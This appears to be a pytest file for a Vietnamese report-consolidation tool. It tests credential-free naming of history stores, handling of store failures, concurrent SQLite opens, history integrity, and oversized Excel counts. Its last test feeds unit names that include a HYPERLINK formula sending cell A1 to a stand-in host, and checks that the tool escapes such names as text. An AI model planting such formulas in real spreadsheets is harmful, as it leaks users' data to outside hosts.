"""Issue 21, items 7–12: the history store and the exports when the clerk mistypes, the network fails or a unit
types nonsense. A store is named without any credential in every output; whatever is wrong with it is a
Vietnamese warning naming the cause, never a stopped run; two first opens at once both succeed; the store
holds only what was published; a count Excel cannot hold exactly is an error; the units' links file is as
safe to open in Excel as every other CSV.

The wrong-password case needs the local PostgreSQL server (CONSOLIDATE_TEST_POSTGRES, see tests/stores.py);
without it that case skips. The unreachable server is a closed port on 127.0.0.1.
"""

from __future__ import annotations

import csv
import json
import random
import socket
import subprocess
import sys
import textwrap
import threading
from pathlib import Path

import openpyxl
import pytest
import sqlalchemy as sa

from conftest import merged, read_log, run_cli, set_cells, unit_file
from stores import NO_POSTGRES, POSTGRES
from consolidate.history import HistoryError, open_store, store_label
from consolidate.history.schema import VERSION
from consolidate.web.links import LINKS_NAME

AN = "x-phuoc-an"
OUTPUTS = {"tong-hop-tuy-phuoc.xlsx", "nhat-ky-loi-tuy-phuoc.csv", "tong-hop-tuy-phuoc.html", "phan-hoi"}
# What a traceback or an untranslated failure looks like on the clerk's console
NOT_FOR_THE_CLERK = ("Traceback", "Error:", "mã HistoryError", "mã ValueError", "lỗi của chương trình")


def closed_port() -> int:
    """A port on 127.0.0.1 that nothing listens on: the kernel's pick, released at once."""
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def settings_for(folder: Path, period: str) -> Path:
    path = folder / f"cau-hinh-{period}.toml"
    path.write_text(f'period = "{period}"\n', encoding="utf-8")
    return path


def every_output_text(out: Path) -> str:
    """All a clerk can read in the run's outputs: the CSV log, the HTML page, every cell of the workbook."""
    texts = [(out / "nhat-ky-loi-tuy-phuoc.csv").read_text(encoding="utf-8-sig"),
             (out / "tong-hop-tuy-phuoc.html").read_text(encoding="utf-8")]
    for ws in merged(out).worksheets:
        texts.extend(str(c.value) for row in ws.iter_rows() for c in row if c.value is not None)
    return "\n".join(texts)


# 7. A store is named by host and database (or its file), never with a credential --------------------

# The password is Qz7…Wx9 around a character a URL reserves; the user name is a credential too.
CREDENTIALS = ("Qz7", "Wx9", "ketoan9")
SERVER = "postgresql://127.0.0.1/lich_su"  # host and database: all a message says of a server's store
HIDDEN = "postgresql://…"  # an address whose host or database might be a password's end
UNREACHABLE = "không kết nối được máy chủ cơ sở dữ liệu"
BAD_URL = "địa chỉ cơ sở dữ liệu không đúng dạng"
ODD_URLS = {  # the URL as typed, how every output names it, why the store could not be used
    "password in the query": ("postgresql://127.0.0.1:{port}/lich_su?user=ketoan9&password=Qz7Wx9", SERVER, UNREACHABLE),
    "@ in the query's password": ("postgresql://127.0.0.1/lich_su?user=ketoan9&password=Qz7@Wx9&port={port}", HIDDEN,
                                  UNREACHABLE),
    "@ in the query's password, a port in the address": (
        "postgresql://127.0.0.1:{port}/lich_su?user=ketoan9&password=Qz7@Wx9", HIDDEN, BAD_URL),
    "unescaped @ in the password": ("postgresql://ketoan9:Qz7@Wx9@127.0.0.1:{port}/lich_su", HIDDEN,
                                    f"{BAD_URL}: ký tự @ / ? trong tên đăng nhập hoặc mật khẩu phải viết mã hóa"),
    "@ and / in the password": ("postgresql://ketoan9:Qz7@x/Wx9@127.0.0.1:{port}/lich_su", HIDDEN, BAD_URL),
    "? in the password": ("postgresql://ketoan9:Qz7?Wx9@127.0.0.1:{port}/lich_su", HIDDEN, UNREACHABLE),
    "an escaped @ in the password": ("postgresql://ketoan9:Qz7%40Wx9@127.0.0.1:{port}/lich_su", SERVER, UNREACHABLE),
    "a port that is not a number": ("postgresql://ketoan9:Qz7Wx9@127.0.0.1:54x2/lich_su", HIDDEN, BAD_URL),
    "one slash after the scheme": ("postgresql:/ketoan9:Qz7Wx9@127.0.0.1/lich_su", HIDDEN, BAD_URL),
}


@pytest.mark.parametrize("case", list(ODD_URLS))
def test_no_output_of_run_history_or_export_shows_a_credential_of_the_store(inbox, tmp_path, monkeypatch, case):
    monkeypatch.chdir(tmp_path)  # a URL mistaken for a path would land here, not in the source tree
    template, shown, reason = ODD_URLS[case]
    url = template.format(port=closed_port())

    console = run_cli("run", inbox, "--out", tmp_path / "ket-qua", "--history", url)
    as_json = run_cli("run", inbox, "--out", tmp_path / "ket-qua-2", "--history", url, "--json")
    history = run_cli("history", "--history", url)
    exported = run_cli("export", "--format", "csv", "--history", url, "--out", tmp_path / "xuat")

    assert console.exit_code == as_json.exit_code == 1  # the sample's one error: the store changes nothing
    outputs = every_output_text(tmp_path / "ket-qua")
    summary = json.loads(as_json.stdout)
    said = {"console": console.output, "HTML, CSV log and workbook": outputs, "--json": as_json.output,
            "history": history.output, "export": exported.output}
    for where, text in said.items():
        assert not [c for c in CREDENTIALS if c in text], f"{where}: {text}"
    warnings = {p["code"]: p["message"] for p in summary["problems"]}
    for message in (warnings["history-not-read"], warnings["history-not-recorded"], history.output, exported.output):
        assert f"({shown}): {reason}" in message or f"{shown}: {reason}" in message, message
    assert f"({shown}): {reason}" in outputs and summary["history"]["store"] == shown
    assert not list(tmp_path.glob("postgresql*"))  # no SQLite file made of a mistyped URL


def test_a_store_is_named_without_credentials_whatever_characters_the_password_holds():
    """Thousands of passwords made of the characters a URL reserves, in every place a URL can carry them."""
    rng = random.Random(2121)
    pieces = ["Qz7", "Wx9", *"@/?#:%&=[]. "]
    for _ in range(3000):
        password = "".join(rng.choice(pieces) for _ in range(rng.randint(1, 8))) + rng.choice(["Qz7", "Wx9"])
        for url in (f"postgresql://ketoan9:{password}@127.0.0.1:5432/lich_su",
                    f"postgresql://127.0.0.1/lich_su?user=ketoan9&password={password}",
                    f"postgresql://127.0.0.1:5432/lich_su?user=ketoan9&password={password}&sslmode=require",
                    f"postgres://ketoan9:{password}@[::1]:5432/lich_su?sslmode=require",
                    f"postgresql+psycopg://{password}@may-chu/lich_su", f"postgresql:/ketoan9:{password}@may-chu/db",
                    f"sqlite://ketoan9:{password}@/lich-su.sqlite", f"ketoan9:{password}@may-chu/lich_su",
                    f"mysql://ketoan9:{password}@may-chu/lich_su"):
            label = store_label(url)
            assert not [c for c in CREDENTIALS if c in label], (url, label)
    assert store_label("postgresql://tinh:mat-khau@may-chu:5432/lich_su?sslmode=require") == "postgresql://may-chu/lich_su"
    assert store_label(Path("ket qua") / "lịch-sử.sqlite") == str(Path("ket qua") / "lịch-sử.sqlite")


# 8. Whatever is wrong with the store, run still writes its outputs; history and export say why -----


def wrong_password(tmp_path: Path) -> str:
    if not POSTGRES:
        pytest.skip(NO_POSTGRES)
    return sa.make_url(POSTGRES).set(password="sai-mat-khau").render_as_string(hide_password=False)


def damaged_file(tmp_path: Path) -> str:
    path = tmp_path / "lich-su.sqlite"
    path.write_bytes(random.Random(21).randbytes(16384))  # a disk that went wrong, or a half-copied file
    return str(path)


CAUSES = {
    "bad URL": (lambda tmp: "postgresql://tinh:mat-khau@127.0.0.1:54x2/lich_su", "địa chỉ cơ sở dữ liệu không đúng dạng"),
    "wrong password": (wrong_password, "máy chủ từ chối tên đăng nhập hoặc mật khẩu"),
    "unreachable server": (lambda tmp: f"postgresql://tinh:mat-khau@127.0.0.1:{closed_port()}/lich_su",
                           "không kết nối được máy chủ cơ sở dữ liệu"),
    "damaged file": (damaged_file, "tệp này không phải cơ sở dữ liệu lịch sử, hoặc đã hỏng"),
}


@pytest.mark.parametrize("cause", list(CAUSES))
def test_a_store_problem_is_a_vietnamese_warning_naming_its_cause_for_run_history_and_export(inbox, tmp_path, cause):
    make, reason = CAUSES[cause]
    store = make(tmp_path)
    out = tmp_path / "ket-qua"

    run = run_cli("run", inbox, "--out", out, "--history", store)
    history = run_cli("history", "--history", store)
    exported = run_cli("export", "--format", "csv", "--history", store, "--out", tmp_path / "xuat")

    assert run.exit_code == 1, run.output  # the sample's one error, as without a history
    assert {p.name for p in out.iterdir()} >= OUTPUTS
    logged = {row["code"]: row for row in read_log(out)}
    assert reason in logged["history-not-read"]["message"] and logged["history-not-read"]["severity"] == "warning"
    assert reason in logged["history-not-recorded"]["message"]
    for command in (history, exported):
        assert command.exit_code == 2
        assert f": {reason}" in command.output and command.output.startswith("Không đọc được lịch sử ")
    for text in (run.output, history.output, exported.output):
        assert not [bad for bad in NOT_FOR_THE_CLERK if bad in text], text


# 9. Two first opens of a new SQLite store at once ----------------------------------------------------


def test_first_opens_of_a_new_sqlite_store_at_the_same_moment_all_succeed(tmp_path):
    """The web page's button and a command-line run open the store that does not exist yet, at once."""
    for trial in range(12):
        target = tmp_path / f"lan-{trial}" / "lich-su.sqlite"
        start = threading.Barrier(4)
        failures: list[str] = []

        def first_open() -> None:
            start.wait()
            try:
                open_store(target).close()
            except HistoryError as exc:
                failures.append(exc.reason)

        openers = [threading.Thread(target=first_open) for _ in range(4)]
        for t in openers:
            t.start()
        for t in openers:
            t.join()
        assert failures == [], f"trial {trial}: {failures}"
        engine = sa.create_engine(sa.URL.create("sqlite", database=str(target)))
        with engine.connect() as conn:
            assert conn.exec_driver_sql("SELECT version FROM schema_version").all() == [(VERSION,)]
            tables = {r[0] for r in conn.exec_driver_sql("SELECT name FROM sqlite_master WHERE type = 'table'")}
        engine.dispose()
        assert tables >= {"source", "observation", "period", "aggregate", "schema_version"}


def test_a_local_file_that_fails_is_never_said_to_be_an_unreachable_server(inbox, tmp_path):
    """A store file whose tables are gone (another program's cleanup, a half-restored copy)."""
    path = tmp_path / "lich-su.sqlite"
    with open_store(path):
        pass
    engine = sa.create_engine(sa.URL.create("sqlite", database=str(path)))
    with engine.begin() as conn:
        conn.exec_driver_sql("DROP TABLE period")
    engine.dispose()

    run = run_cli("run", inbox, "--out", tmp_path / "ket-qua", "--history", path)
    history = run_cli("history", "--history", path)

    logged = {row["code"]: row["message"] for row in read_log(tmp_path / "ket-qua")}
    for text in (logged["history-not-read"], history.output):
        assert "máy chủ" not in text and "tệp lịch sử bị hỏng hoặc thiếu bảng" in text, text
    assert run.exit_code == 1 and history.exit_code == 2


# 10. The store holds only what was published ---------------------------------------------------------


def excel_holds(monkeypatch, name: str) -> None:
    """The clerk has ``name`` open in Excel: on Windows, opening it for writing is refused (as the output set
    checks before replacing anything)."""
    from consolidate.write import files

    def refusing_open(file, mode="r", *args, **kwargs):
        if Path(file).name == name and mode != "r":
            raise PermissionError(13, "The process cannot access the file because it is being used by another process",
                                  str(file))
        return open(file, mode, *args, **kwargs)

    monkeypatch.setattr(files, "open", refusing_open, raising=False)


def computers(store: Path) -> dict[str, float]:
    with open_store(store, create=False) as history:
        return {o.period: o.value for o in history.observations(unit=AN) if o.field_code == "form1.computers"}


def test_when_the_outputs_cannot_be_replaced_the_history_keeps_what_was_published(inbox, tmp_path, monkeypatch):
    out = tmp_path / "ket-qua"
    store = out / "lich-su.sqlite"
    first = run_cli("run", inbox, "--out", out, "--config", settings_for(tmp_path, "2024S1"))
    assert first.exit_code == 1 and computers(store) == {"2024S1": 5.0}

    # the clerk left the merged workbook open in Excel, then ran the next period and a correction of the first
    excel_holds(monkeypatch, "tong-hop-tuy-phuoc.xlsx")
    set_cells(unit_file(inbox, AN), "Biểu mẫu 1", {"G7": 42})
    refused = [run_cli("run", inbox, "--out", out, "--config", settings_for(tmp_path, period), "--json")
               for period in ("2024S2", "2024S1")]

    for result in refused:
        assert result.exit_code == 2 and "Các tệp kết quả cũ được giữ nguyên" in result.output
    assert computers(store) == {"2024S1": 5.0}  # neither the new period nor the new figure: the outputs say 5
    assert merged(out)["Biểu mẫu 1"]  # the previous set is there, unchanged
    with open_store(store, create=False) as history:
        assert history.periods() == ["2024S1"]

    monkeypatch.undo()  # Excel closed: the next run publishes, and records
    assert run_cli("run", inbox, "--out", out, "--config", settings_for(tmp_path, "2024S2")).exit_code == 1
    assert computers(store) == {"2024S1": 5.0, "2024S2": 42.0}


def test_a_run_killed_while_replacing_its_outputs_leaves_no_figures_of_its_own_in_the_history(inbox, tmp_path):
    out = tmp_path / "ket-qua"
    store = out / "lich-su.sqlite"
    assert run_cli("run", inbox, "--out", out).exit_code == 1
    set_cells(unit_file(inbox, AN), "Biểu mẫu 1", {"G7": 42})
    script = textwrap.dedent(f"""
        import os
        import consolidate.write.files as files
        def power_cut(self):
            os._exit(9)  # the figures are stored, not committed; the outputs not yet replaced
        files.OutputSet.commit = power_cut
        from consolidate.cli import main
        main(["run", {str(inbox)!r}, "--out", {str(out)!r}])
    """)
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, timeout=300, cwd=Path(__file__).parent)
    assert done.returncode == 9, done.stderr

    assert computers(store) == {"2024S2": 5.0}  # the next open of the store rolls the unfinished figures back


# 11. A count Excel cannot hold exactly -------------------------------------------------------------


def test_a_count_of_1e300_is_an_error_of_its_cell_not_a_figure_of_the_totals_or_dhis2(inbox, tmp_path):
    out = tmp_path / "ket-qua"
    before = run_cli("run", inbox, "--out", tmp_path / "truoc")
    totals_before = [c.value for c in merged(tmp_path / "truoc")["Biểu mẫu 1"]["G"]]
    set_cells(unit_file(inbox, AN), "Biểu mẫu 1", {"G7": 1e300, "H7": 1234567890123456.0})
    set_cells(unit_file(inbox, "x-phuoc-son"), "Biểu mẫu 2", {"G8": 1e16})  # a number of dossiers

    run = run_cli("run", inbox, "--out", out, "--config", settings_for(tmp_path, "2024S2"))

    assert before.exit_code == run.exit_code == 1
    too_large = [r for r in read_log(out) if r["code"] == "count-too-large"]
    assert {(r["file"], r["sheet"], r["cell"]) for r in too_large} == {
        ("bao-cao-x-phuoc-an.xlsx", "Biểu mẫu 1", "G7"), ("bao-cao-x-phuoc-an.xlsx", "Biểu mẫu 1", "H7"),
        ("bao-cao-x-phuoc-son.xlsx", "Biểu mẫu 2", "G8")}
    assert all(r["severity"] == "error" and "15 chữ số" in r["message"] for r in too_large)
    assert max(len(r["message"]) for r in too_large) < 200  # not a 301-digit number
    sheet = merged(out)["Biểu mẫu 1"]
    totals = [c.value for c in sheet["G"]]
    assert max(v for v in totals if isinstance(v, (int, float))) < 1e15  # left out of every total
    assert max(v for v in totals if isinstance(v, (int, float))) == max(
        v for v in totals_before if isinstance(v, (int, float))) - 5  # the district's computers, without Phước An's 5

    folder = tmp_path / "cau-hinh"
    assert run_cli("init", folder).exit_code == 0
    mapping = folder / "dhis2-anh-xa.csv"
    with open(mapping, encoding="utf-8-sig", newline="") as fh:
        table = list(csv.reader(fh))
    for row in table[1:]:
        if row[0] == "Chỉ tiêu":
            row[3:5] = ["DE." + row[1], "COC.default"]
        elif row[0] == "Đơn vị":
            row[5] = "OU." + row[1]
    with open(mapping, "w", encoding="utf-8-sig", newline="") as fh:
        csv.writer(fh).writerows(table)
    exported = run_cli("export", "--format", "dhis2-json", "--mapping", mapping, "--history", out / "lich-su.sqlite",
                       "--out", tmp_path / "xuat")
    assert exported.exit_code == 0, exported.output
    values = json.loads((tmp_path / "xuat" / "dhis2-gia-tri.json").read_text(encoding="utf-8"))["dataValues"]
    assert values and all(len(v["value"].lstrip("-").split(".")[0]) <= 15 for v in values)
    assert ("DE.form1.computers", "OU." + AN) not in {(v["dataElement"], v["orgUnit"]) for v in values}


def test_check_tells_the_unit_its_count_is_too_large(inbox):
    path = unit_file(inbox, AN)
    set_cells(path, "Biểu mẫu 1", {"G7": 1e300})
    result = run_cli("check", path, "--json")
    (problem,) = [p for p in json.loads(result.stdout)[0]["problems"] if p["code"] == "count-too-large"]
    assert problem["cell"] == "G7" and problem["severity"] == "error" and "1E+300" in problem["message"]


# 12. The units' links file is as safe in Excel as every other CSV --------------------------------------


def test_unit_names_that_excel_would_run_are_written_as_text_in_the_links_file(inbox, tmp_path):
    names = ["=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm\")", "+84 Xã Phước An", "-Xã Phước Sơn", "@SUM(A1:A9)",
             "Xã Phước Hòa"]
    units = tmp_path / "don-vi.csv"
    with open(units, "w", encoding="utf-8-sig", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["Mã", "Tên đơn vị", "Cấp", "Mã đơn vị cấp trên"])
        writer.writerow(["tuy-phuoc", "Huyện Tuy Phước", "huyện", ""])
        writer.writerows([f"x-{n}", name, "xã", "tuy-phuoc"] for n, name in enumerate(names))
    out = tmp_path / "ket-qua"

    result = run_cli("links", inbox, "--out", out, "--units", units)

    assert result.exit_code == 0, result.output
    with open(out / LINKS_NAME, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["name"] for r in rows] == ["'" + n for n in names[:4]] + ["Xã Phước Hòa"]
    assert all(r["url"].startswith("http://") for r in rows)
